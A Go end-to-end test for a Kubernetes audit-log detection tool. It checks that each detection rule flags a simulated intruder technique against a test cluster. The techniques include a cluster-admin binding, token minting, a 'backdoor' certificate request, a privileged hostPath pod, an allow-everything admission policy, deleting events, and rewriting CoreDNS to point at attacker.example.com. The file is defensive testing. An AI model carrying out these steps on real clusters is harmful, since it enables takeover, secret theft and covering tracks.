package e2e

import (
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	appsv1 "k8s.io/api/apps/v1"
	authenticationv1 "k8s.io/api/authentication/v1"
	certificatesv1 "k8s.io/api/certificates/v1"
	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/utils/ptr"

	"github.com/kubeharden/kubeharden/detections"
	"github.com/kubeharden/kubeharden/tests/cluster"
)

// TestDetectionsNameEachTechniqueAndNothingElse runs, against a real API server started from the rendered
// files (its audit policy, its audit log), first the control plane's start and a tenant's normal work, and
// then a technique for each detection rule, as an attacker with a stolen admin credential would. The real
// audit log is scanned: the normal part raises no alert, and each technique is named by its rule.
func TestDetectionsNameEachTechniqueAndNothingElse(t *testing.T) {
	c := cluster.Start(t, nil)
	ctx := context.Background()
	rules := detections.DefaultRules()

	// Normal work: a namespace, a restricted Deployment, a ConfigMap, reads of its own namespace.
	ns := newNamespace(t, c, "shop")
	_, err := c.Client.AppsV1().Deployments(ns).Create(ctx, restrictedDeployment("web"), metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = c.Client.CoreV1().ConfigMaps(ns).Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "settings"}}, metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = c.Client.CoreV1().Pods(ns).List(ctx, metav1.ListOptions{})
	require.NoError(t, err)
	baseline := scanAuditLog(t, c, 0, rules)
	require.Positive(t, baseline.Events)
	require.Empty(t, baseline.Errors)
	for _, a := range baseline.Alerts {
		t.Errorf("a false positive in the normal work: %s %s by %s: %s", a.Rule, a.Object, a.User, a.Detail)
	}
	offset := len(c.AuditLog(t))

	// The techniques.
	want := map[string]string{} // rule -> a word the alert's object or detail holds
	sa, err := c.Client.CoreV1().ServiceAccounts(ns).Create(ctx, &corev1.ServiceAccount{ObjectMeta: metav1.ObjectMeta{Name: "intruder"}}, metav1.CreateOptions{})
	require.NoError(t, err)
	_, err = c.Client.RbacV1().ClusterRoleBindings().Create(ctx, &rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: "intruder-admin"},
		RoleRef:  rbacv1.RoleRef{APIGroup: "rbac.authorization.k8s.io", Kind: "ClusterRole", Name: "cluster-admin"},
		Subjects: []rbacv1.Subject{{Kind: "ServiceAccount", Name: sa.Name, Namespace: ns}}}, metav1.CreateOptions{})
	require.NoError(t, err)
	want["cluster-admin-binding"] = "intruder-admin"

	_, err = c.Client.RbacV1().ClusterRoles().Create(ctx, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: "escalator"},
		Rules: []rbacv1.PolicyRule{{APIGroups: []string{"rbac.authorization.k8s.io"}, Resources: []string{"clusterroles"}, Verbs: []string{"bind", "escalate"}}}}, metav1.CreateOptions{})
	require.NoError(t, err)
	want["rbac-escalation-grant"] = "escalator"

	impersonating := rest.CopyConfig(c.Admin)
	impersonating.Impersonate = rest.ImpersonationConfig{UserName: "jane@example.com"}
	_, _ = kubernetes.NewForConfigOrDie(impersonating).CoreV1().Namespaces().List(ctx, metav1.ListOptions{}) // refused as jane: still impersonation
	want["impersonation-used"] = "jane@example.com"

	_, err = c.Client.CoreV1().Secrets("").List(ctx, metav1.ListOptions{})
	require.NoError(t, err)
	want["secrets-read-cluster-wide"] = "secrets"

	_, err = c.Client.CoreV1().ServiceAccounts(ns).CreateToken(ctx, sa.Name, &authenticationv1.TokenRequest{
		Spec: authenticationv1.TokenRequestSpec{ExpirationSeconds: ptr.To[int64](600)}}, metav1.CreateOptions{})
	require.NoError(t, err)
	want["token-request-for-another"] = "intruder"

	_, err = c.Client.CertificatesV1().CertificateSigningRequests().Create(ctx, &certificatesv1.CertificateSigningRequest{
		ObjectMeta: metav1.ObjectMeta{Name: "backdoor"},
		Spec: certificatesv1.CertificateSigningRequestSpec{Request: csrPEM(t, "backdoor"), SignerName: certificatesv1.KubeAPIServerClientSignerName,
			Usages: []certificatesv1.KeyUsage{certificatesv1.UsageClientAuth}}}, metav1.CreateOptions{})
	require.NoError(t, err)
	want["csr-by-person"] = "backdoor"

	anonymous := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: c.CAPool(), MinVersion: tls.VersionTLS12}}}
	for range detections.Burst + 2 {
		req, err := http.NewRequest(http.MethodGet, c.Admin.Host+"/api/v1/namespaces/kube-system/secrets", nil)
		require.NoError(t, err)
		req.Header.Set("Authorization", "Bearer a-guessed-token")
		resp, err := anonymous.Do(req)
		require.NoError(t, err)
		resp.Body.Close()
		require.Equal(t, http.StatusUnauthorized, resp.StatusCode)
	}
	want["denied-burst"] = "refused requests"

	// Requests to a node and a pod that do not exist: the request is the technique, whatever it finds.
	rc := c.Client.CoreV1().RESTClient()
	_ = rc.Get().AbsPath("/api/v1/nodes/worker-1/proxy/configz").Do(ctx).Error()
	want["nodes-proxy"] = "worker-1"
	_ = rc.Post().Namespace(ns).Resource("pods").Name("web-0").SubResource("exec").Param("command", "sh").Param("stdout", "true").Do(ctx).Error()
	want["pod-exec-attach-portforward"] = "web-0"
	_ = rc.Patch(types.StrategicMergePatchType).Namespace(ns).Resource("pods").Name("web-0").SubResource("ephemeralcontainers").
		Body([]byte(`{"spec":{"ephemeralContainers":[{"name":"debugger","image":"busybox"}]}}`)).Do(ctx).Error()
	want["ephemeral-container-added"] = "web-0"

	_, err = c.Client.CoreV1().Pods(ns).Create(ctx, hostPod("root-me", ns), metav1.CreateOptions{})
	require.Error(t, err, "the cluster's Pod Security default refuses it")
	want["host-access-pod-refused"] = "root-me"
	_, err = c.Client.CoreV1().Pods("kube-system").Create(ctx, hostPod("node-agent", "kube-system"), metav1.CreateOptions{})
	require.NoError(t, err, "kube-system is exempt from Pod Security by the profile's default")
	want["host-access-pod-admitted"] = "node-agent"

	_, err = c.Client.AdmissionregistrationV1().ValidatingAdmissionPolicies().Create(ctx, &admissionregistrationv1.ValidatingAdmissionPolicy{
		ObjectMeta: metav1.ObjectMeta{Name: "allow-everything"},
		Spec: admissionregistrationv1.ValidatingAdmissionPolicySpec{
			MatchConstraints: &admissionregistrationv1.MatchResources{ResourceRules: []admissionregistrationv1.NamedRuleWithOperations{{
				RuleWithOperations: admissionregistrationv1.RuleWithOperations{Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.Create},
					Rule: admissionregistrationv1.Rule{APIGroups: []string{""}, APIVersions: []string{"v1"}, Resources: []string{"pods"}}}}}},
			Validations: []admissionregistrationv1.Validation{{Expression: "true"}}}}, metav1.CreateOptions{})
	require.NoError(t, err)
	want["admission-changed"] = "allow-everything"

	_, err = c.Client.CoreV1().Events(ns).Create(ctx, &corev1.Event{ObjectMeta: metav1.ObjectMeta{Name: "evidence"},
		InvolvedObject: corev1.ObjectReference{Kind: "Pod", Namespace: ns, Name: "web-0"}, Reason: "Started", Type: "Normal"}, metav1.CreateOptions{})
	require.NoError(t, err)
	require.NoError(t, c.Client.CoreV1().Events(ns).Delete(ctx, "evidence", metav1.DeleteOptions{}))
	want["events-deleted"] = "evidence"

	_, err = c.Client.CoreV1().ConfigMaps("kube-system").Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: "coredns"},
		Data: map[string]string{"Corefile": ".:53 {\n    rewrite name regex (.*)\\.svc\\.cluster\\.local attacker.example.com\n    forward . 10.66.0.53\n}\n"}}, metav1.CreateOptions{})
	require.NoError(t, err)
	want["coredns-changed"] = "coredns"

	var attacks detections.Result
	cluster.WaitFor(t, "every technique in the audit log", 30*time.Second, func() error {
		attacks = scanAuditLog(t, c, offset, rules)
		for rule := range want {
			if len(alertsOf(attacks, rule)) == 0 {
				return &missing{rule}
			}
		}
		return nil
	})
	require.Empty(t, attacks.Errors)
	for rule, word := range want {
		alerts := alertsOf(attacks, rule)
		require.NotEmpty(t, alerts, "rule %s named no technique", rule)
		found := false
		for _, a := range alerts {
			found = found || strings.Contains(a.Object+" "+a.Detail, word)
		}
		assert.True(t, found, "rule %s names %q: %+v", rule, word, alerts)
	}
	for _, a := range attacks.Alerts {
		if _, expected := want[a.Rule]; !expected && a.Rule != "anonymous-request" {
			t.Errorf("an alert no technique asked for: %s %s by %s: %s", a.Rule, a.Object, a.User, a.Detail)
		}
	}
	t.Logf("baseline: %d events, no alert; techniques: %d events, %d alerts", baseline.Events, attacks.Events, len(attacks.Alerts))
}

type missing struct{ rule string }

func (m *missing) Error() string { return "no alert of " + m.rule + " yet" }

// scanAuditLog scans the audit log from byte offset on.
func scanAuditLog(t *testing.T, c *cluster.Cluster, offset int, rules []detections.Rule) detections.Result {
	t.Helper()
	log := c.AuditLog(t)[offset:]
	if i := strings.LastIndexByte(log, '\n'); i >= 0 {
		log = log[:i+1] // a line the API server is still writing is not yet an event
	}
	path := filepath.Join(t.TempDir(), "audit.log")
	require.NoError(t, os.WriteFile(path, []byte(log), 0o600))
	return detections.ScanFiles(rules, path)
}

func alertsOf(r detections.Result, rule string) []detections.Alert {
	var out []detections.Alert
	for _, a := range r.Alerts {
		if a.Rule == rule {
			out = append(out, a)
		}
	}
	return out
}

// restrictedDeployment is a Deployment that meets the restricted Pod Security standard.
func restrictedDeployment(name string) *appsv1.Deployment {
	labels := map[string]string{"app": name}
	return &appsv1.Deployment{ObjectMeta: metav1.ObjectMeta{Name: name}, Spec: appsv1.DeploymentSpec{
		Selector: &metav1.LabelSelector{MatchLabels: labels},
		Template: corev1.PodTemplateSpec{ObjectMeta: metav1.ObjectMeta{Labels: labels}, Spec: corev1.PodSpec{
			SecurityContext: &corev1.PodSecurityContext{RunAsNonRoot: ptr.To(true), SeccompProfile: &corev1.SeccompProfile{Type: corev1.SeccompProfileTypeRuntimeDefault}},
			Containers: []corev1.Container{{Name: "web", Image: "registry.k8s.io/pause:3.10", SecurityContext: &corev1.SecurityContext{
				AllowPrivilegeEscalation: ptr.To(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"ALL"}}}}},
		}},
	}}
}

// hostPod is a pod that takes its node: host network and PID, a privileged container, the node's root.
func hostPod(name, ns string) *corev1.Pod {
	return &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns}, Spec: corev1.PodSpec{
		HostNetwork: true, HostPID: true,
		Volumes:    []corev1.Volume{{Name: "root", VolumeSource: corev1.VolumeSource{HostPath: &corev1.HostPathVolumeSource{Path: "/"}}}},
		Containers: []corev1.Container{{Name: "c", Image: "registry.k8s.io/pause:3.10", SecurityContext: &corev1.SecurityContext{Privileged: ptr.To(true)}}},
	}}
}

// csrPEM is a PEM certificate request for a client certificate of user.
func csrPEM(t *testing.T, user string) []byte {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	require.NoError(t, err)
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: user}}, key)
	require.NoError(t, err)
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
}
